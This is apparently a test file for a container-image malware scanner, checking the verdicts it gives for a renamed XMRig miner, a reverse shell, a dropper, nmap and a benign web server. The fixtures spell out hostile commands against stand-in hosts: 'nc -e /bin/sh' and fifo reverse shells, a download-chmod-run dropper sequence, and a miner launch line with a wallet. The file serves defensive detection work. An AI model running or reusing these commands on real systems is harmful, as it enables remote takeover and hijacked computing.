/**
 * Golden verdicts: reports built as the pipeline builds them (static findings from the real detectors, recorded
 * detonations shaped like the sample runs judged by the shipped behaviour rules, then the one verdict step), with
 * the categories, `malicious` and the exact summary sentence a person reads.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeFiles, type TreeFile } from '../support/analyze-files.js';
import { createDetectors, type Detectors } from '../../src/analyze/detectors.js';
import type { DetonationResult } from '../../src/detonate/session.js';
import type { Report, Vulnerability } from '../../src/model/index.js';
import { runRecordOf } from '../../src/scan/detonation.js';
import { loadVerdictRules, type VerdictRules } from '../../src/verdict/index.js';
import { judgeReport } from '../support/judge.js';
import { debianPackageDir } from '../support/debian-packages.js';
import { conn, detonation, proc, SINK, sinkConnection } from './behavior.js';
import { assertValidReport } from '../support/report-schema.js';

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const samples = join(import.meta.dirname, '..', 'detonate', 'fixtures', 'samples');

let detectors: Detectors;
let rules: VerdictRules;
beforeAll(async () => {
  detectors = await createDetectors();
  rules = await loadVerdictRules();
}, 60_000);
afterAll(async () => {
  await detectors?.close();
});

/** An ELF carrying XMRig's usage text, donation host and stratum strings, as the real binary does. */
function xmrigElf(): Buffer {
  const strings = ['Usage: xmrig [OPTIONS]', 'donate.v2.xmrig.com', 'mining.subscribe', 'stratum+tcp://', '"method":"login"', 'XMRig/6.21.0', 'rx/0'];
  return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.from(`\0${strings.join('\0')}\0`)]);
}

function vuln(id: string, severity: Vulnerability['severity']): Vulnerability {
  return { id, aliases: [], package: 'libssl3', purl: 'pkg:deb/debian/libssl3@3.0.11-1~deb12u2?distro=debian-12', installedVersion: '3.0.11-1~deb12u2', fixedVersion: '3.0.13-1~deb12u1', severity, source: `DSA-${id}`, layer: 0 };
}

interface Build {
  files: TreeFile[];
  /** Paths a later layer deleted (as mergeLayers marks them: added in layer 0, removed in layer 1). */
  removed?: string[];
  run?: DetonationResult | { error: string };
  vulnerabilities?: Vulnerability[];
}

/** Static stage → vulnerability stage → detonation stage → the verdict, as src/scan/scan.ts runs them. */
async function judge(b: Build): Promise<Report> {
  const stat = await analyzeFiles(detectors.analyzers, b.files);
  const findings = stat.findings.map((f) => (f.path && b.removed?.includes(f.path) ? { ...f, removedInLayer: 1 } : f));
  const report: Report = {
    schemaVersion: 1,
    tool: { name: 'detonate', version: 'test', advisoryDb: b.vulnerabilities ? { builtAt: '2026-11-30T00:00:00Z', sources: ['debian'] } : null },
    image: { reference: 'golden:test', digest: `sha256:${'0'.repeat(64)}`, platform: 'linux/amd64', os: stat.os, layers: [], config: { user: '', entrypoint: [], cmd: [], env: [], exposedPorts: [], labels: {} } },
    packages: stat.packages,
    vulnerabilities: b.vulnerabilities ?? [],
    findings,
    behavior: null,
    verdict: { malicious: false, categories: [], vulnerabilities: { critical: 0, high: 0, moderate: 0, low: 0, unknown: 0 }, summary: '' },
  };
  if (b.run && 'error' in b.run) report.behavior = b.run;
  else if (b.run) {
    report.behavior = runRecordOf(b.run);
  }
  const judged = judgeReport(report, { rules });
  assertValidReport(judged, 'the golden report');
  return judged;
}

const minerFiles = (): TreeFile[] => [
  { path: 'usr/local/bin/kdevtmpfsi', content: xmrigElf(), mode: 0o755 },
  { path: 'start.sh', content: `#!/bin/sh\n/usr/local/bin/kdevtmpfsi -o stratum+tcp://pool.example.test:3333 -u ${WALLET} --donate-level 1\n`, mode: 0o755 },
];

/** The miner sample's run, with the image's own renamed XMRig as the miner. */
function minerRun(cpuSeconds = 9.6): DetonationResult {
  const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${WALLET}","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64)"}}`;
  return detonation({
    timedOut: true,
    exitCode: null,
    killedBy: 'deadline',
    processes: [
      proc(1, 0, ['/bin/sh', '/start.sh'], '/bin/sh', 0),
      proc(7, 1, ['/usr/local/bin/kdevtmpfsi', '-o', 'stratum+tcp://pool.example.test:3333', '-u', WALLET, '--donate-level', '1'], '/usr/local/bin/kdevtmpfsi', 35),
    ],
    dns: [{ name: 'pool.example.test', type: 'A', pid: 7 }],
    connections: [conn({ proto: 'udp', dst: SINK, port: 53, pid: 7 }), conn({ pid: 7, dst: SINK, port: 3333, host: 'pool.example.test', protocol: 'stratum', firstBytes: login.slice(0, 64) })],
    sinkhole: { events: [sinkConnection({ address: SINK, port: 3333 }, 'stratum', { methods: ['login'], wallet: WALLET, agent: 'XMRig/6.21.0 (Linux x86_64)', algo: [], jobSent: true } as never, login)], stats: null },
    cpu: { seconds: cpuSeconds, peakCores: 1 },
  });
}

/** The reverse-shell sample: `nc HOST 4444 -e /bin/sh`, then an interactive shell over a fifo to port 4445. */
function reverseShellRun(): DetonationResult {
  return detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '/rev.sh'], '/bin/sh', 0),
      proc(6, 1, ['nc', '192.0.2.10', '4444', '-e', '/bin/sh'], '/bin/nc', 12),
      proc(9, 6, ['/bin/sh'], '/bin/sh', 60),
      proc(10, 1, ['mkfifo', '/tmp/f'], '/bin/mkfifo', 14),
      proc(11, 1, ['sh', '-i'], '/bin/sh', 20),
      proc(12, 1, ['nc', '192.0.2.10', '4445'], '/bin/nc', 21),
    ],
    files: [{ op: 'create', path: '/tmp/f', pid: 10 }],
    connections: [conn({ pid: 6, dst: '192.0.2.10', port: 4444 }), conn({ pid: 12, dst: '192.0.2.10', port: 4445 })],
  });
}

/** The dropper sample: fetches http://dl.invalid/x through nc into /tmp/x, makes it executable and runs it. */
function dropperRun(): DetonationResult {
  return detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '/dropper.sh'], '/bin/sh', 0),
      proc(5, 1, ['nc', '-w', '3', 'dl.invalid', '80'], '/bin/nc', 10),
      proc(6, 1, ['chmod', '+x', '/tmp/x'], '/bin/chmod', 30),
      proc(7, 1, ['/tmp/x'], '/tmp/x', 40),
    ],
    files: [{ op: 'create', path: '/tmp/x', pid: 5 }, { op: 'chmod', path: '/tmp/x', pid: 6, mode: 0o755 }],
    dns: [{ name: 'dl.invalid', type: 'A', pid: 1 }],
    connections: [conn({ pid: 5, dst: SINK, port: 80, host: 'dl.invalid', protocol: 'http', firstBytes: 'GET /x HTTP/1.1\\r\\nHost: dl.invalid' })],
  });
}

function webserverRun(): DetonationResult {
  return detonation({ timedOut: true, exitCode: null, processes: [proc(1, 0, ['httpd', '-f', '-p', '8080', '-h', '/www'], '/bin/httpd', 0)] });
}

const nmap = (): Buffer => readFileSync(join(debianPackageDir('nmap'), 'usr/bin/nmap'));

describe('golden verdicts', () => {
  it('miner: the XMRig it ships, renamed, mines over stratum', async () => {
    const r = await judge({ files: minerFiles(), run: minerRun(), vulnerabilities: [vuln('CVE-2024-0001', 'critical'), vuln('CVE-2024-0002', 'moderate'), vuln('CVE-2024-0003', 'low')] });
    expect(r.verdict.categories).toEqual(['cryptominer']);
    expect(r.verdict.malicious).toBe(true);
    expect(r.verdict.summary).toBe('Malicious (cryptominer): runs XMRig renamed as kdevtmpfsi and contacts pool.example.test:3333 over stratum; 3 known vulnerabilities (1 critical).');
    expect(r.verdict.evidence?.[0]).toMatchObject({ rule: 'verdict.cryptominer.runs-shipped-miner', severity: 'critical', source: 'dynamic', path: 'usr/local/bin/kdevtmpfsi' });
    const correlation = r.findings.find((f) => f.rule === 'verdict.cryptominer.runs-shipped-miner')!;
    expect(correlation.evidence).toMatchObject({ correlation: true, events: expect.arrayContaining([expect.objectContaining({ kind: 'finding', rule: 'yara/Cryptominer_XMRig' })]) });
    expect(r.verdict.vulnerabilities).toEqual({ critical: 1, high: 0, moderate: 1, low: 1, unknown: 0 });
  });

  it('miner without a pool in reach: the shipped miner burning CPU is enough', async () => {
    const run = minerRun();
    run.connections = [];
    run.sinkhole.events = [];
    const r = await judge({ files: minerFiles(), run });
    expect(r.verdict.summary).toBe('Malicious (cryptominer): runs XMRig renamed as kdevtmpfsi and keeps 0.96 cores busy.');
  });

  it('miner shipped but idle when run: still malicious on the static evidence, nothing escalated', async () => {
    const r = await judge({ files: minerFiles(), run: webserverRun() });
    expect(r.verdict.malicious).toBe(true);
    expect(r.findings.some((f) => f.rule.startsWith('verdict.'))).toBe(false);
    expect(r.verdict.summary).toBe('Malicious (cryptominer): XMRig cryptominer (usr/local/bin/kdevtmpfsi).');
  });

  it('reverse shell: the script it ships connects out and hands over a shell', async () => {
    const r = await judge({ files: [{ path: 'rev.sh', content: readFileSync(join(samples, 'reverse-shell.sh')), mode: 0o755 }], run: reverseShellRun() });
    expect(r.verdict.categories).toEqual(['backdoor']);
    expect(r.verdict.malicious).toBe(true);
    expect(r.verdict.summary).toBe('Malicious (backdoor): runs the reverse shell in rev.sh and connects to 192.0.2.10:4444.');
  });

  it('reverse shell, static only: malicious on the script alone', async () => {
    const r = await judge({ files: [{ path: 'rev.sh', content: readFileSync(join(samples, 'reverse-shell.sh')), mode: 0o755 }] });
    expect(r.verdict.malicious).toBe(true);
    expect(r.verdict.summary).toBe('Malicious (backdoor): Netcat shell (nc -e / ncat --exec) to 192.0.2.10:4444 in script (rev.sh).');
  });

  it('dropper: downloads, makes executable and runs a file: suspicious, not malicious by definition', async () => {
    const r = await judge({ files: [{ path: 'dropper.sh', content: readFileSync(join(samples, 'dropper.sh')), mode: 0o755 }], run: dropperRun() });
    expect(r.verdict.categories).toEqual(['suspicious']);
    expect(r.verdict.malicious).toBe(false);
    expect(r.verdict.summary).toBe('Suspicious: downloads /tmp/x from dl.invalid:80, makes it executable and runs it.');
  });

  it('attack tools, static only: a hacking tool is not malicious; one a later layer deleted stays, not escalated', async () => {
    const files = [
      { path: 'usr/bin/nmap', content: nmap(), mode: 0o755 },
      { path: 'usr/local/bin/nmap-old', content: nmap(), mode: 0o755 },
    ];
    const r = await judge({ files, removed: ['usr/local/bin/nmap-old'] });
    expect(r.verdict.categories).toEqual(['hacking-tool']);
    expect(r.verdict.malicious).toBe(false);
    expect(r.verdict.summary).toBe('Suspicious (hacking-tool): Nmap network scanner (usr/bin/nmap).');
    expect(r.findings.find((f) => f.path === 'usr/local/bin/nmap-old')).toMatchObject({ category: 'hacking-tool', removedInLayer: 1 });
  });

  it('attack tools when run: the shipped tool it runs is escalated, the deleted one is not', async () => {
    const files = [
      { path: 'usr/bin/nmap', content: nmap(), mode: 0o755 },
      { path: 'usr/local/bin/nmap-old', content: nmap(), mode: 0o755 },
    ];
    const run = detonation({ processes: [proc(1, 0, ['/usr/bin/nmap', '-sn', '192.0.2.0/30'], '/usr/bin/nmap', 0), proc(2, 0, ['/usr/local/bin/nmap-old'], '/usr/local/bin/nmap-old', 5)] });
    const r = await judge({ files, removed: ['usr/local/bin/nmap-old'], run });
    const escalated = r.findings.filter((f) => f.rule === 'verdict.hacking-tool.runs-shipped-tool');
    expect(escalated).toHaveLength(1);
    expect(escalated[0]).toMatchObject({ path: 'usr/bin/nmap', severity: 'high', source: 'static' });
    expect(r.verdict.malicious).toBe(false);
    expect(r.verdict.summary).toBe('Suspicious (hacking-tool): runs the attack tool it ships: Nmap (usr/bin/nmap).');
  });

  it('benign web server: no malicious behaviour, with its vulnerabilities', async () => {
    const vulns = [vuln('CVE-2024-1000', 'high'), vuln('CVE-2024-1001', 'high'), ...Array.from({ length: 10 }, (_, i) => vuln(`CVE-2024-2${i}`, 'low'))];
    const r = await judge({ files: [{ path: 'www/index.html', content: '<h1>hello from a benign sample</h1>\n' }], run: webserverRun(), vulnerabilities: vulns });
    expect(r.verdict).toMatchObject({ malicious: false, categories: [] });
    expect(r.verdict.summary).toBe('No malicious behaviour seen; 12 known vulnerabilities (2 high).');
    expect(r.verdict.evidence).toBeUndefined();
  });

  it('benign, static only and run failed: says what was not done', async () => {
    const files = [{ path: 'www/index.html', content: '<h1>hello</h1>\n' }];
    expect((await judge({ files })).verdict.summary).toBe('No malicious content found (static analysis only).');
    expect((await judge({ files, run: { error: 'not run: the entrypoint is not in the image' }, vulnerabilities: [] })).verdict.summary).toBe(
      'No malicious content found (the image could not be run); no known vulnerabilities.',
    );
  });

  it('deciding twice gives the same verdict and findings', async () => {
    const r = await judge({ files: minerFiles(), run: minerRun() });
    const before = JSON.stringify(r);
    const again = await judge({ files: minerFiles(), run: minerRun() });
    expect(JSON.stringify(again)).toBe(before);
  });
});
